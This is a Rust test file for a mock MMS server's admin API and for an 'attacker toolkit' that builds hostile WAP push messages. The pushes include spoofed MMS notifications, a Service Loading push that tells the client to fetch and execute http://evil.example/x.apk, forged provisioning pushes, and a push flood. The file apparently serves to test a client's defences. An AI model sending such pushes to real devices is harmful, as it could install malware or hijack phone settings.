//! The admin API and the attacker toolkit.

use super::*;
#[tokio::test]
async fn admin_api_registers_subscribers_queues_faults_and_exposes_logs() {
    let (mmsc, c) = start(MockConfig::default()).await;
    let admin = |p: &str| format!("{}/{p}", mmsc.admin_url());
    let bearer = format!("Bearer {}", mmsc.admin_token());
    let udp = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let r = c
        .post(admin("subscribers"))
        .header("authorization", &bearer)
        .header("content-type", "application/json")
        .body(
            serde_json::to_vec(
                &serde_json::json!({"msisdn": "+15550001", "push": udp.local_addr().unwrap()}),
            )
            .unwrap(),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 204);
    let r = c
        .post(admin("faults"))
        .header("authorization", &bearer)
        .header("content-type", "application/json")
        .body(
            serde_json::to_vec(&serde_json::json!({"on": "post", "fault": {"Http": [503, 7]}}))
                .unwrap(),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 204);
    let req = send_req("T-1", "+15550001").build();
    let r = post(&c, &mmsc.url(), Some("+15550001"), req.encode().unwrap()).await;
    assert_eq!((r.status, r.retry_after.as_deref()), (503, Some("7")));
    let r = post(&c, &mmsc.url(), Some("+15550001"), req.encode().unwrap()).await;
    assert_eq!(r.status, 200);
    let log: Vec<serde_json::Value> = c
        .get(admin("log"))
        .header("authorization", &bearer)
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .map(|b| serde_json::from_slice(&b).unwrap())
        .unwrap();
    let events: Vec<&str> = log.iter().map(|e| e["event"].as_str().unwrap()).collect();
    assert!(events.contains(&"subscriber_registered"));
    assert!(events.contains(&"fault_http"));
    assert!(events.contains(&"send_accepted"));
    let cdrs: Vec<serde_json::Value> = c
        .get(admin("cdrs"))
        .header("authorization", &bearer)
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .map(|b| serde_json::from_slice(&b).unwrap())
        .unwrap();
    assert_eq!(cdrs.len(), 1);
    assert_eq!(cdrs[0]["event"], "submitted");
    // The registered push address works: the notification (to self) arrived.
    let mut buf = [0u8; 2048];
    let n = tokio::time::timeout(Duration::from_secs(5), udp.recv(&mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(decode_push(&buf[..n]).unwrap().kind(), PushKind::Mms);
}

#[tokio::test]
async fn attacker_toolkit_builds_what_the_client_parses() {
    use mms_codec::provisioning::parse_xml;
    use mms_decisions::provisioning::{Credentials, SecMethod, Secret, verify};
    let n = attacker::spoofed_notification("x1", "http://evil.example/a", Some("+1"), 10);
    let p = decode_push(&n).unwrap();
    let pdu = Pdu::decode(p.body).unwrap().pdu;
    assert_eq!(location(&pdu), "http://evil.example/a");

    let si = attacker::si_push("http://evil.example/", "Click", attacker::SiAction::High);
    let p = decode_push(&si).unwrap();
    assert_eq!(p.kind(), PushKind::ServiceIndication);
    let parsed = mms_codec::push::service::parse_si(p.body).unwrap();
    assert_eq!(parsed.href.as_deref(), Some("http://evil.example/"));
    assert_eq!(
        (parsed.text.as_str(), parsed.action.as_str()),
        ("Click", "signal-high")
    );

    let sl = attacker::sl_push("http://evil.example/x.apk", true);
    let p = decode_push(&sl).unwrap();
    assert_eq!(p.kind(), PushKind::ServiceLoading);
    let parsed = mms_codec::push::service::parse_sl(p.body).unwrap();
    assert_eq!(
        (parsed.href.as_str(), parsed.action.as_str()),
        ("http://evil.example/x.apk", "execute-high")
    );

    let doc = parse_xml(
        r#"<wap-provisioningdoc><characteristic type="BOOTSTRAP"><parm name="NAME" value="x"/></characteristic></wap-provisioningdoc>"#,
    )
    .unwrap();
    let creds = Credentials {
        imsi: None,
        pin: Some(Secret::new("1234")),
    };
    let signed = attacker::provisioning_push(
        &doc,
        &attacker::ProvisioningAuth::Signed(SecMethod::Userpin, creds.clone()),
    );
    let forged = attacker::provisioning_push(
        &doc,
        &attacker::ProvisioningAuth::Forged(SecMethod::Userpin, "00".repeat(20)),
    );
    let bare = attacker::provisioning_push(&doc, &attacker::ProvisioningAuth::None);
    let check = |bytes: &[u8]| {
        let p = decode_push(bytes).unwrap();
        assert_eq!(p.kind(), PushKind::Provisioning);
        let sec = match p
            .content_type
            .param(mms_codec::pdu::content_type::param::SEC)
        {
            Some(mms_codec::pdu::ParamValue::Integer(s)) => Some(*s),
            _ => None,
        };
        let mac = p
            .content_type
            .param(mms_codec::pdu::content_type::param::MAC)
            .and_then(|m| match m {
                mms_codec::pdu::ParamValue::Text(t) => Some(t.to_string()),
                _ => None,
            });
        verify(sec, mac.as_deref(), p.body, &creds).is_ok()
    };
    assert!(check(&signed));
    assert!(!check(&forged));
    assert!(!check(&bare));

    // Over SMS: segments that the client's reassembly puts back together.
    let big = attacker::spoofed_notification(
        "x2",
        &format!("http://e.example/{}", "a".repeat(300)),
        None,
        1,
    );
    let tpdus = attacker::as_sms("+15550000", &big, 7);
    assert!(tpdus.len() > 1);
    let mut r = mms_codec::push::Reassembler::new(Default::default());
    let mut whole = None;
    for t in &tpdus {
        let seg = mms_codec::push::parse_deliver(t, true).unwrap();
        if let mms_codec::push::Reassembly::Complete { datagram, .. } = r.push(seg, 0) {
            whole = Some(datagram);
        }
    }
    assert_eq!(whole.unwrap(), big);
    assert_eq!(attacker::flood(50, "http://x/").len(), 50);
}
